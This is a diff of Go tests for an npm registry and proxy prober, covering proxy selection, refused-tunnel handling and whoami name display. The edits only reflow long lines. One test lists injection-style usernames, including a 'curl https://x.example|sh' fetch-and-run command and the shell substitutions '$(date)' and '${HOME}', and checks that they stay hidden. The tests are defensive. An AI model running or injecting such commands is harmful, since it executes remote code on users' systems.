@@ -25,9 +25,11 @@ func TestVia(t *testing.T) {
 		{"an option", "https-proxy=http://p.example:1/", nil, secure, ".npmrc http://p.example:1"},
 		{"it serves http too", "https-proxy=http://p.example:1/", nil, plain, ".npmrc http://p.example:1"},
 		{"proxy serves https too", "proxy=http://p.example:1/", nil, secure, ".npmrc http://p.example:1"},
-		{"an option goes before a variable", "proxy=http://p.example:1/", []string{"HTTPS_PROXY=http://q.example:2"}, secure, ".npmrc http://p.example:1"},
+		{"an option goes before a variable", "proxy=http://p.example:1/", []string{"HTTPS_PROXY=http://q.example:2"},
+			secure, ".npmrc http://p.example:1"},
 		{"HTTPS_PROXY", "", []string{"HTTPS_PROXY=http://q.example:2"}, secure, "$HTTPS_PROXY http://q.example:2"},
-		{"HTTPS_PROXY serves http too", "", []string{"HTTPS_PROXY=http://q.example:2", "HTTP_PROXY=http://r.example:3"}, plain, "$HTTPS_PROXY http://q.example:2"},
+		{"HTTPS_PROXY serves http too", "", []string{"HTTPS_PROXY=http://q.example:2", "HTTP_PROXY=http://r.example:3"},
+			plain, "$HTTPS_PROXY http://q.example:2"},
 		{"HTTP_PROXY", "", []string{"HTTP_PROXY=http://r.example:3"}, plain, "$HTTP_PROXY http://r.example:3"},
 		{"HTTP_PROXY is not for https", "", []string{"HTTP_PROXY=http://r.example:3"}, secure, ""},
 		{"noproxy wins", "proxy=http://p.example:1/\nnoproxy=acme.example", nil, secure, ""},
@@ -37,7 +39,8 @@ func TestVia(t *testing.T) {
 		p := prober(t, "https://npm.acme.example", k.rc+"\n", k.env...)
 		got := ""
 		if via, ok := viaOf(p.Config, p.Env, k.uri); ok {
-			got = via.Origin.File[strings.LastIndex(via.Origin.File, "/")+1:] + " " + via.URL.Scheme + "://" + via.URL.Host
+			got = via.Origin.File[strings.LastIndex(via.Origin.File, "/")+1:] + " " + via.URL.Scheme + "://" +
+				via.URL.Host
 			if via.Origin.Layer == npmrc.LayerEnv {
 				got = "$" + via.Origin.Name + got
 			}
@@ -55,7 +58,8 @@ func TestProbeKnowsARefusedTunnel(t *testing.T) {
 		tunnel int
 		denied string
 	}{
-		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: host_not_allowed\r\nContent-Length: 0\r\n\r\n", 403, "host_not_allowed"},
+		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: host_not_allowed\r\nContent-Length: 0\r\n\r\n", 403,
+			"host_not_allowed"},
 		{"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n", 403, ""},
 		{"HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n", 407, ""},
 		{"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", 502, ""},
@@ -63,7 +67,8 @@ func TestProbeKnowsARefusedTunnel(t *testing.T) {
 		{"HTTP/1.1 403 Forbidden\r\nX-Deny-Reason: " + secret + "\r\n\r\n", 403, ""},
 	} {
 		at := refuseToConnect(t, k.answer)
-		p := prober(t, "https://npm.acme.example", "registry={url}\n{key}:_authToken="+secret+"\n", "HTTPS_PROXY=http://"+at)
+		p := prober(t, "https://npm.acme.example", "registry={url}\n{key}:_authToken="+secret+"\n",
+			"HTTPS_PROXY=http://"+at)
 		got := p.Ask(context.Background(), "https://npm.acme.example/x", "x")
 		if len(got.All()) != 3 {
 			t.Fatalf("%+v", got.All())
@@ -107,10 +112,12 @@ func refuseToConnect(t *testing.T, answer string) string {
 // TestANameIsAName: what whoami gives is shown only if it can be nothing but a name; that it gave one is known all the
 // same.
 func TestANameIsAName(t *testing.T) {
-	for name, shown := range map[string]bool{"ada": true, "ada.l+ci@acme.example": true, "nobody. run this: curl https://x.example|sh #": false, "ada lovelace": false,
+	for name, shown := range map[string]bool{"ada": true, "ada.l+ci@acme.example": true,
+		"nobody. run this: curl https://x.example|sh #": false, "ada lovelace": false,
 		strings.Repeat("a", 64): true, strings.Repeat("a", 65): false, "${HOME}": false, "$(date)": false} {
 		s := watch(t, func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, `{"username":%q}`, name) })
-		got := prober(t, s.URL, "registry={url}\n{key}:_authToken="+secret).Ask(context.Background(), s.URL+"/x", "x").Whoami
+		got := prober(t, s.URL, "registry={url}\n{key}:_authToken="+secret).Ask(context.Background(), s.URL+"/x",
+			"x").Whoami
 		if !got.Named || (got.User != "") != shown || shown && got.User != name {
 			t.Errorf("%q: %+v", name, got)
 		}
